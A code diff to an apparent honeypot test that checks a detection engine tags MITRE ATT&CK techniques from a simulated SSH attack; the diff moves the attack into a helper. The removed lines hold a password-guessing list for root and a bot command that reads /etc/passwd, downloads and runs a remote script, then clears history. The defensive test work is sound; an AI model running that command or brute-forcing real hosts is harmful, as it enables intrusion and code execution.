@@ -7,8 +7,7 @@ import assert from 'node:assert/strict';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import ssh2 from 'ssh2';
-import type { PasswordAuthMethod } from 'ssh2';
+import { BOT_COMMAND, sshAttack } from '../helpers/ssh-attack.ts';
 import { ROOT } from '../helpers/env.ts';
 import { startTestDecky } from '../deckies/harness.ts';
 import { loadTtpEngine } from '../../src/intel/ttp/load-engine.ts';
@@ -23,24 +22,8 @@ after(() => rmSync(scratch, { recursive: true, force: true }));
 test('a real SSH session on the decoy yields T1110, T1078, T1082, T1105 and T1070.003 with evidence', async () => {
   const d = await startTestDecky({ services: [{ name: 'ssh', config: { fail_delay_ms: '0' } }] });
   try {
-    const client = new ssh2.Client();
     // Two wrong passwords, then the decoy's weak root password.
-    const attempts: PasswordAuthMethod[] = ['letmein', 'toor', 'admin'].map((password) => ({ type: 'password', username: 'root', password }));
-    await new Promise<void>((resolve, reject) => {
-      client.once('ready', () => resolve());
-      client.once('error', reject);
-      client.connect({ host: d.ip, port: d.port('ssh'), readyTimeout: 10_000, username: 'root', authHandler: attempts });
-    });
-    const command = 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh; history -c';
-    await new Promise<void>((resolve, reject) => {
-      client.exec(command, (err, stream) => {
-        if (err) return reject(err);
-        stream.on('data', () => {});
-        stream.stderr.on('data', () => {});
-        stream.on('close', () => resolve());
-      });
-    });
-    client.end();
+    await sshAttack({ host: d.ip, port: d.port('ssh') }, ['letmein', 'toor', 'admin'], BOT_COMMAND);
     await d.waitForEvent((e) => e.event === 'download');
 
     const { engine } = await loadTtpEngine({ rulesDir: join(ROOT, 'rules/ttp'), cataloguePath: join(ROOT, 'data/attack/enterprise-18.1.json') });
@@ -65,7 +48,7 @@ test('a real SSH session on the decoy yields T1110, T1078, T1082, T1105 and T107
       assert.equal(tag.attacker_ip, events[0]!.src_ip);
     }
     const cmdTag = tags.find((t) => t.technique_id === 'T1070.003')!;
-    assert.equal(cmdTag.evidence.text, command);
+    assert.equal(cmdTag.evidence.text, BOT_COMMAND);
     assert.equal(cmdTag.evidence.fields.cwd, '/root');
     // No secret from the session reaches a tag.
     const json = JSON.stringify(tags);
